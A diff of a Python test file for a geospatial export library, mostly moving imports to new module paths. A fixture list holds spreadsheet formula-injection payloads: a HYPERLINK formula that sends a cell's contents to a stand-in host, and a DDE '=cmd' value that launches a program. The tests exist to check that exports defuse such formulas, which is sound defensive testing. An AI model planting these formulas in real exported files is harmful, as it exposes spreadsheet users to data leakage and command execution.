@@ -10,7 +10,7 @@ import pandas as pd
 import pytest
 
 import geo
-from geo.export import write_outputs
+from geo.render.export import write_outputs
 from tests.conftest import hazards_tm
 
 FORMULAS = ['=HYPERLINK("http://x.example/?a="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "=cmd|'/c calc'!A1"]
@@ -92,7 +92,8 @@ def test_every_polygon_written_is_valid_in_the_file_crs(tmp_path, demo_result):
 
 
 def test_xlsx_is_formatted_and_holds_the_tables_of_the_csvs(tmp_path, demo_result):
-    from geo.export import rounded_for_csv, write_xlsx
+    from geo.io.writers import rounded_for_csv
+    from geo.render.export import write_xlsx
 
     path = tmp_path / "t.xlsx"
     write_xlsx(demo_result, path)
@@ -119,7 +120,7 @@ def test_xlsx_is_formatted_and_holds_the_tables_of_the_csvs(tmp_path, demo_resul
 
 
 def test_xlsx_leaves_out_a_piece_table_longer_than_a_sheet_and_says_where_it_is(tmp_path, demo_result):
-    from geo.export import write_xlsx
+    from geo.render.export import write_xlsx
 
     path = tmp_path / "t.xlsx"
     write_xlsx(demo_result, path, max_rows=2000)
@@ -197,8 +198,7 @@ def test_user_columns_keep_their_values_in_the_pieces_geopackage(tmp_path):
     import pyogrio
     import shapely
 
-    from geo._gpkgstream import write_arrow_layer
-    from geo._piecefiles import _arrow_pieces
+    from geo.io.writers import _arrow_pieces, write_arrow_layer
 
     when = pd.to_datetime(["2021-03-01 08:00", "2022-11-05 17:30"]).tz_localize("Asia/Phnom_Penh")
     layer = gpd.GeoDataFrame(
@@ -257,7 +257,7 @@ def test_a_gdal_too_old_for_arrow_writing_is_named(tmp_path, monkeypatch, demo_r
     """pyogrio built against a GDAL older than 3.8 cannot write Arrow: the run says so, and what to do."""
     import pyogrio
 
-    from geo._errors import GeoEnvironmentError
+    from geo.errors import GeoEnvironmentError
 
     monkeypatch.setattr(pyogrio, "__gdal_version__", (3, 6, 4))
     monkeypatch.setattr(pyogrio, "__gdal_version_string__", "3.6.4")
@@ -271,7 +271,7 @@ def test_piece_wkb_is_the_multipolygon_shapely_writes():
     import numpy as np
     import shapely
 
-    from geo._piecefiles import multipolygon_wkb
+    from geo.io.writers import multipolygon_wkb
 
     rng = np.random.default_rng(3)
     ring = shapely.buffer(shapely.Point(0, 0), 5, quad_segs=3)
@@ -297,7 +297,7 @@ def test_piece_wkb_is_the_multipolygon_shapely_writes():
 
 
 def test_formula_text_is_defused_among_values_of_every_kind():
-    from geo._files import _defuse_column
+    from geo.io.writers import _defuse_column
 
     column = pd.Series(["=1+1", None, 3, "A-1", "-2", float("nan"), ["=x"], b"=y", "=1+1"])
     assert _defuse_column(column).tolist()[:6] == ["'=1+1", None, 3, "A-1", "'-2", column[5]]
